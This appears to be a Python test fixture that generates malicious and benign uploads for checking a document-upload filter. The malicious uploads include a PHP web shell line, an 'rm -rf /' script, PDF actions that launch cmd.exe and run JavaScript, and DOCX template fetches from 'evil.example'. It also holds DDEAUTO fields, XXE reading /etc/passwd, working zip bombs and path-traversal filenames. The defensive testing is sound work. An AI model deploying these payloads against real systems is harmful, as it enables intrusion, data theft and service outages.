"""Files that people with bad intent would send, and files that honest people send, made here: (name, bytes, what it is)."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image, ImageDraw

from tests.fixtures.clamd import EICAR
from tests.papers.made import RELATIONS, TYPES, W, docx, pdf, picture

Sent = tuple[str, bytes, str]
SCRIPT = b"<script>alert(1)</script>"
PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + b"\0" * 300
MACRO_TYPES = TYPES.replace(
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "application/vnd.ms-word.document.macroEnabled.main+xml",
)


def zipped(*parts: tuple[str, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts:
            archive.writestr(name, data)
    return written.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A few bytes that say they are a very large picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def wrong_types() -> Iterator[Sent]:
    """What it says is not what it is."""
    bodies = {
        "program": PROGRAM,
        "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
        "html": b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>",
        "html with a space": b"\n \t<HTML>" + SCRIPT,
        "html after a comment": b"<!-- a letter -->" + SCRIPT,
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "svg with a head": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "php": b"<?php system($_GET[0]); ?>",
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "rtf": rb"{\rtf1\ansi{\object\objdata 0105}}",
        "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "rar": b"Rar!\x1a\x07\0" + b"\0" * 100,
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
        "gzip": b"\x1f\x8b\x08\0" + b"\0" * 60,
        "swf": b"CWS\x08" + b"\0" * 60,
        "class": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 60,
        "link": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60,
        "zip": zipped(("a.exe", PROGRAM)),
        "gif": b"GIF89a\x01\0\x01\0\x80\0\0" + b"\0" * 40,
        "film": b"\0\0\0\x20ftypisom" + b"\0" * 60,
    }
    for ending in (".pdf", ".docx", ".png", ".jpg", ".txt"):
        for what, data in bodies.items():
            yield f"letter{ending}", data, f"{what} named {ending}"


def wrong_names() -> Iterator[Sent]:
    """Endings that are not on the list, and names that pretend."""
    endings = (
        *("exe", "dll", "js", "vbs", "hta", "bat", "cmd", "ps1", "lnk", "jar", "msi", "scr", "iso", "html", "htm", "xhtml"),
        *("svg", "xml", "php", "docm", "dotm", "doc", "xls", "xlsm", "xlsx", "pptx", "zip", "rar", "7z", "eml", "rtf", "gif"),
    )
    for ending in endings:
        yield f"letter.{ending}", PROGRAM, f"the ending .{ending}"
    for name in (
        "letter.pdf.exe", "letter.pdf ", "letter.pdf.", "letter", ".pdf", "letter.pdf\u202excod.exe", "letter.txt:stream.exe",
        "../../letter.exe", "letter.docx%00.exe", "pdf", "letter.p df",
    ):  # fmt: skip
        yield name, pdf(), f"the name {name!r}"


def pdfs() -> Iterator[Sent]:
    """PDFs that do something, hold something, or are two things."""
    acts = {
        "script on opening": b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "script with a hidden name": b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",
        "starts a program": b"/OpenAction << /S /Launch /F (cmd.exe) >>",
        "starts a program, hidden": b"/OpenAction << /S /L#61unch /F (cmd.exe) >>",
        "another file": b"/Names << /EmbeddedFiles << /Names [(a.exe) 100 0 R] >> >>",
        "flash": b"/Extensions 1 /RichMedia 2",
        "old form": b"/AcroForm << /XFA 100 0 R >>",
        "sends a form": b"/OpenAction << /S /ImportData /F (\\\\\\\\evil\\\\share) >>",
        "opens a file inside": b"/OpenAction << /S /GoToE >>",
        "a film": b"/AA << /O << /S /Movie >> >>",
    }
    for what, words in acts.items():
        yield "letter.pdf", pdf(catalog=words), f"pdf: {what}"
        yield "letter.pdf", pdf(extra=[b"<< " + words + b" >>"]), f"pdf: {what}, in another object"
        packed = zlib.compress(b"100 0 << " + words + b" >>")
        stream = b"<< /Type /ObjStm /N 1 /First 6 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        yield "letter.pdf", pdf(extra=[stream % (len(packed), packed)]), f"pdf: {what}, packed away"
    for what, words in (("to open", b"/Encrypt 100 0 R"), ("in place", b"/Encrypt << /Filter /Standard >>")):
        yield "letter.pdf", pdf(trailer=words), f"pdf: a password {what}"
        yield "letter.pdf", pdf(trailer=words) + b"\n" * 9000, f"pdf: a password {what}, far from the end"
    for what, data in {
        "page": b"<html>" + SCRIPT, "picture": b"<svg onload=alert(1)>", "document": b"<!doctype html>" + SCRIPT,
        "program": b"<?php evil(); ?>",
    }.items():  # fmt: skip
        yield "letter.pdf", b"%PDF-1.4\n" + data + b"\n" + pdf()[9:], f"pdf: begins as a {what}"
        yield "letter.pdf", pdf() + data, f"pdf: ends as a {what}"
        yield "letter.pdf", data + pdf(), f"pdf: after a {what}"
    yield "letter.pdf", pdf() + zipped(("a.exe", PROGRAM)), "pdf: a zip behind it"
    yield "letter.pdf", pdf() + zipped(("META-INF/MANIFEST.MF", b"x"), ("A.class", b"\xca\xfe")), "pdf: a jar behind it"
    yield "letter.pdf", pdf(extra=[b"<< >>\nstream\n" + zipped(("a", PROGRAM)) + b"\nendstream"]), "pdf: a zip inside it"
    yield "letter.pdf", b"%PDF-1.7\n", "pdf: nothing but its first line"
    yield "letter.pdf", b"%PDF-1.7\n" + b"A" * 5000, "pdf: no object"
    bomb = zlib.compress(b"0" * 60_000_000, 9)
    stream = b"<< /Type /ObjStm /N 1 /First 6 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(bomb), bomb)
    yield "letter.pdf", pdf(extra=[stream]), "pdf: unpacks to far too much"


def words() -> Iterator[Sent]:
    """Word documents that do something, hold something, or are two things."""
    inside = (
        "word/vbaProject.bin", "word/vbaData.xml", "word/VBAPROJECT.BIN", "word/activeX/activeX1.xml", "word/embeddings/a.exe",
        "word/embeddings/oleObject1.bin", "word/embeddings/a.docm", "word/media/a.js", "word/media/a.svg", "word/media/a.html",
        "word/media/a.vbs", "word/a.lnk", "word/a.jar", "word/a.zip", "word/a.hta", "word/a.ps1", "word/a.bat", "word/a.scr",
    )  # fmt: skip
    for name in inside:
        yield "letter.docx", docx(extra=[(name, b"x")]), f"word: holds {name}"
    for name in ("../../etc/cron.d/x", "/etc/passwd", "word\\..\\..\\x", "C:/x.txt", "word/../../x"):
        yield "letter.docx", docx(extra=[(name, b"x")]), f"word: a part named {name}"
    yield "letter.docx", docx(parts={"[Content_Types].xml": MACRO_TYPES}), "word: says that it has macros"
    yield "letter.docx", docx(parts={"[Content_Types].xml": "<x/>"}), "word: another kind of archive"
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument", "externalLink", "image", "settings"):
        link = f'<Relationship Id="rId9" Type="http://x/relationships/{kind}" Target="http://evil.example/a.dotm" TargetMode="External"/>'
        data = RELATIONS.replace("</Relationships>", link + "</Relationships>")
        yield "letter.docx", docx(extra=[("word/_rels/document.xml.rels", data)]), f"word: fetches {kind}"
    for target in ("javascript:alert(1)", "file:///etc/passwd", "ms-msdt:/id", "vbscript:x", "data:text/html,x"):
        link = f'<Relationship Id="rId9" Type="http://x/relationships/hyperlink" Target="{target}" TargetMode="External"/>'
        data = RELATIONS.replace("</Relationships>", link + "</Relationships>")
        yield "letter.docx", docx(extra=[("word/_rels/document.xml.rels", data)]), f"word: a link to {target}"
    for field in ("DDEAUTO c:\\\\windows\\\\cmd.exe", "DDE x", "INCLUDETEXT http://x", "IMPORT c:\\\\x"):
        body = f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:instrText> {field}</w:instrText></w:r></w:p></w:body></w:document>'
        yield "letter.docx", docx(parts={"word/document.xml": body}), f"word: the field {field[:8]}"
    for what, inner in {
        "in pieces": "<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E c:</w:instrText>",
        "behind blanks": f"<w:instrText x='{'y' * 9000}'> dde c:</w:instrText>",
        "in one word": "</w:r><w:fldSimple w:instr=' DDEAUTO c: '/><w:r>",
    }.items():
        body = f'<w:document xmlns:w="{W}"><w:body><w:p><w:r>{inner}</w:r></w:p></w:body></w:document>'
        yield "letter.docx", docx(parts={"word/document.xml": body}), f"word: a field {what}"
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
    for part in ("word/document.xml", "word/styles.xml", "_rels/.rels"):
        data = f'<?xml version="1.0"?>{laughs}<x>&b;</x>'
        yield "letter.docx", docx(parts={part: data}), f"word: words that grow in {part}"
    outside = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    yield "letter.docx", docx(parts={"word/document.xml": outside}), "word: reads a file of the server"
    yield "letter.docx", docx(parts={"word/document.xml": outside.encode("utf-16")}), "word: the same in UTF-16"
    yield "letter.docx", docx(extra=[("word/media/a.png", b"\0" * 40_000_000)]), "word: one part unpacks to far too much"
    many = [(f"word/media/{n}.bmp", b"\0" * 900_000) for n in range(260)]
    yield "letter.docx", docx(extra=many), "word: many parts unpack to far too much"
    yield "letter.docx", docx(extra=[(f"word/{n}.txt", b"") for n in range(6000)]), "word: thousands of parts"
    yield "letter.docx", docx(parts={"word/document.xml": b"x" * 41_000_000}), "word: one very long text"
    yield "letter.docx", _overlapping(), "word: parts that share their bytes"
    yield "letter.docx", _locked(), "word: a password"
    yield "letter.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 200 + "EncryptedPackage".encode("utf-16-le"), "word: locked"
    for what, data in {"page": b"<html>" + SCRIPT, "program": PROGRAM, "pdf": pdf(), "picture": picture()}.items():
        yield "letter.docx", data + docx(), f"word: after a {what}"
        yield "letter.docx", docx() + data, f"word: before a {what}"
    yield "letter.docx", docx()[:-1], "word: cut off"
    doubled = docx(extra=[("word/DOCUMENT.xml", b"<x/>")])
    yield "letter.docx", doubled, "word: two parts of one name"


def _overlapping() -> bytes:
    """A catalogue that names the same packed bytes many times (D. Fifield, A better zip bomb, 2019)."""
    data = bytearray(docx(extra=[("word/media/a.png", bytes(random.Random(5).randbytes(40_000)))]))
    start = data.rfind(b"PK\x05\x06")
    at = struct.unpack("<I", data[start + 16 : start + 20])[0]
    catalogue = bytes(data[at:start])
    last = catalogue.rfind(b"PK\x01\x02")
    more = b"".join(catalogue[last:].replace(b"a.png", b"%05d" % n) for n in range(50))
    end = bytearray(data[start:])
    count = struct.unpack("<H", end[8:10])[0] + 50
    end[8:12] = struct.pack("<HH", count, count)
    end[12:16] = struct.pack("<I", len(catalogue) + len(more))
    return bytes(data[:start] + more + end)


def _locked() -> bytes:
    """An archive whose parts say that they are locked."""
    data = bytearray(docx())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sign)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(sign, at + 4)
    return bytes(data)


def pictures() -> Iterator[Sent]:
    """Pictures too large to open, and broken ones."""
    for width, height in ((30_000, 30_000), (65_535, 65_535), (2_000_000, 30), (10_000, 6_000), (2**31 - 1, 1)):
        yield "photo.png", png_of(width, height), f"picture: {width} by {height}"
    for size in (20, 60, 200, 400):
        yield "photo.jpg", picture(size=(300, 300))[:size], f"picture: cut off after {size}"
        yield "photo.png", picture("PNG", (300, 300))[:size], f"picture: png cut off after {size}"
    yield "photo.jpg", picture("PNG"), "picture: a png named jpg"
    yield "photo.png", picture("JPEG"), "picture: a jpg named png"
    noise = random.Random(7)
    for n in range(6):
        yield "photo.png", b"\x89PNG\r\n\x1a\n" + noise.randbytes(400), f"picture: noise {n}"
        yield "photo.jpg", b"\xff\xd8\xff\xe0" + noise.randbytes(400), f"picture: jpg noise {n}"


def slow() -> Iterator[Sent]:
    """Files that would keep a careless pattern busy for hours."""
    many = 12_000_000
    for what, data in {
        "digits": b"1" * many, "openings": b"<" * many, "streams": b"stream\n" * (many // 7), "names": b"/ObjStm " * (many // 8),
        "blanks": b"1 " + b" " * many, "escapes": b"#41" * (many // 3), "locks": b"/Encrypt " * (many // 9),
    }.items():  # fmt: skip
        yield "letter.pdf", b"%PDF-1.7\n" + data + b"\ntrailer\n%%EOF\n", f"slow: {what}"
    for what, data in {
        "relations": b"<Relationship " * 50_000, "fields": b"instrText" * 400_000, "marks": b"<! " * 400_000,
    }.items():  # fmt: skip
        noise = random.Random(3).randbytes(200_000).hex().encode()
        part = "word/_rels/document.xml.rels" if what == "relations" else "word/document.xml"
        yield "letter.docx", docx(parts={part: data + noise, "[Content_Types].xml": "<x/>"}), f"slow: {what}"


def viruses() -> Iterator[Sent]:
    """Files of a good kind that the virus scanner knows."""
    yield "letter.txt", EICAR, "virus: the test file"
    yield "letter.txt", b"Dear all,\n" + EICAR, "virus: in a letter"
    yield "letter.docx", docx(extra=[("word/media/a.bin", EICAR)]), "virus: in a Word document"
    yield "letter.docx", docx(extra=[("customXml/item1.txt", EICAR)]), "virus: in another part"
    yield "letter.pdf", pdf(extra=[b"<< /Length 68 >>\nstream\n" + EICAR + b"\nendstream"]), "virus: in a PDF"
    yield "letter.pdf", pdf() + b"\n%" + EICAR, "virus: behind a PDF"


def all_hostile() -> list[Sent]:
    makers = (wrong_types, wrong_names, pdfs, words, pictures, slow, viruses)
    return [sent for make in makers for sent in make()]


# Payloads hidden in pictures: they are taken, drawn anew, and what was hidden is gone.
def with_payloads() -> Iterator[Sent]:
    jpeg, png = picture(size=(60, 40)), picture("PNG", (60, 40))
    for what, data in {
        "page": b"<html>" + SCRIPT, "program": PROGRAM, "zip": zipped(("a.exe", PROGRAM)), "php": b"<?php evil(); ?>",
        "virus": EICAR,
    }.items():  # fmt: skip
        yield "photo.jpg", jpeg + data, f"{what} behind a jpg"
        yield "photo.png", png + data, f"{what} behind a png"
        said = b"\xff\xfe" + struct.pack("!H", len(data) + 2) + data
        yield "photo.jpg", jpeg[:2] + said + jpeg[2:], f"{what} said in a jpg"


def honest() -> list[Sent]:
    """What people really send, in many forms: all of it should be taken."""
    from weasyprint import HTML

    found: list[Sent] = []
    for n in range(30):
        found.append((f"Letter {n}.pdf", pdf(*[f"Page {page} about the move" for page in range(n % 5 + 1)]), "pdf"))
        found.append((f"Brief {n}.docx", docx(*[f"Paragraph {p}. Josh & Amy: école" for p in range(n + 1)]).replace(b"&", b"&"), "word"))
    found = [each for each in found if each[2] != "word"]
    for n in range(30):
        link = '<Relationship Id="rId9" Type="http://x/relationships/hyperlink" Target="https://www.nhs.uk/" TargetMode="External"/>'
        extra = [
            ("word/styles.xml", "<x/>"), ("docProps/core.xml", "<x/>"), ("word/media/image1.png", picture("PNG", (80, 60))),
            ("word/_rels/document.xml.rels", RELATIONS.replace("</Relationships>", link + "</Relationships>")),
        ][: n % 5]  # fmt: skip
        found.append((f"Brief {n}.docx", docx(*[f"Paragraph {p}: école" for p in range(n + 1)], extra=extra), "word"))
    for n in range(10):
        page = f"<html lang=en><title>T{n}</title><h1>Plan {n}</h1><p>JavaScript and /JS and Launch are words.<table><tr><td>1</table>"
        found.append((f"Plan {n}.pdf", HTML(string=page).write_pdf(pdf_variant="pdf/ua-1" if n % 2 else None), "pdf of ours"))
    letters = (
        "Dear all,\nthank you.\n", "Café, naïve, £5, “quoted”", "Less than <5 and a < b", "a\tb\tc\r\n1\t2\t3", "\ufeffWith a mark",
        "x" * 50_000, "- one\n- two", "e-mail: <jo@example.org> wrote:\n> hello", "# Heading", "Form feed\fnext",
    )  # fmt: skip
    for n, letter in enumerate(letters):
        found.append((f"note {n}.txt", letter.encode(), "text"))
        found.append((f"note {n} old.txt", letter.encode("cp1252", "ignore"), "text of Windows"))
        found.append((f"note {n} wide.txt", letter.lstrip("\ufeff").encode("utf-16"), "text in UTF-16"))
    for n, mode in enumerate(("RGB", "L", "RGBA", "P", "1", "LA", "CMYK", "I;16")):
        for size in ((1, 1), (30, 900), (1200, 800)):
            image = Image.new(mode, size)
            if mode == "RGB":
                ImageDraw.Draw(image).line((0, 0, *size), fill="red")
            for kind, ending in (("PNG", "png"), ("JPEG", "jpg")):
                if (kind, mode) in {("PNG", "CMYK"), ("JPEG", "RGBA"), ("JPEG", "P"), ("JPEG", "LA"), ("JPEG", "I;16")}:
                    continue
                written = io.BytesIO()
                image.save(written, kind)
                found.append((f"Photo {n} {size[0]}.{ending.upper() if n % 2 else ending}", written.getvalue(), f"{kind} {mode}"))
    return found
